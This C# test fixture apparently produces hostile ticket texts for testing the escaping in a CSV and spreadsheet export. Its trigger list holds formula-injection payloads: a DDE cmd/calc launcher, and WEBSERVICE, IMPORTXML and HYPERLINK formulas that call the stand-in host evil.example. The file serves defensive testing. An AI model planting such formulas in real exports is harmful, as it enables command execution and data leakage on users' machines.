using System.Globalization;

namespace TicketExport.Portable;

/// <summary>Tickets whose texts spreadsheets and CSV readers trip over; each row another one.</summary>
internal static class HostileRows
{
    // Without a guard: a spreadsheet that is not told otherwise shows these as it shows numbers, dates and truth values.
    private static readonly string[] NumberLike = ["1E5", "0042", "1/2", "2026-03-01", "12:30", "TRUE", "5%", "€ 5", "1.234,56"];

    private static readonly string[] Leads = ["", " ", "   ", "\u00A0", "\u200B", "\u2060", "\u3000", "\"", "'", "''", "\"'\" ", "\uFEFF", "x"];

    private static readonly string[] Triggers =
    [
        "=1+1", "+1+1", "-1+1", "@SUM(1)", "=cmd|' /C calc'!A0", "=HYPERLINK(\"https://evil.example\",\"x\")", "=WEBSERVICE(\"https://evil.example\")", "＝1+1", "＋1", "－1",
        "＠SUM(1)", "|calc", "%1", "=IMPORTXML(\"https://evil.example\",\"//a\")", "=1;=2", "=1,=2", "=1|=2", "DDE(\"cmd\";\"/C calc\";\"x\")", "-1", "+41 44", "#REF!",
        "\\", "a\\b", "a;b,c|d", "\"\"", "a\"b", "日本", "😀", "e\u0301", .. NumberLike,
    ];

    private static readonly string[] Ends = ["", " ", "\n=2", "\n\n", ";=3", ",=4", "\"", "'", "\t=5"];

    public static bool IsNumberLike(string text) => text.Trim() is "true" or "false" || NumberLike.Contains(text.Trim(), StringComparer.Ordinal);

    public static IEnumerable<PortableTicket> Take(int count)
    {
        for (var i = 0; i < count; i++)
        {
            var text = Leads[i % Leads.Length] + Triggers[i / Leads.Length % Triggers.Length] + Ends[i / (Leads.Length * Triggers.Length) % Ends.Length];
            var ticket = PortableTickets.One(id: string.Create(CultureInfo.InvariantCulture, $"r-{i}"));
            yield return ticket with
            {
                Document = ticket.Document with
                {
                    Title = text.ReplaceLineEndings(" ").Replace('\t', ' '),
                    Summary = text,
                    BusinessImpact = text,
                    ReproductionSteps = [text, text],
                    RemediationSnippet = text,
                    Labels = [text.ReplaceLineEndings(" ").Replace('\t', ' ')],
                },
            };
        }
    }
}
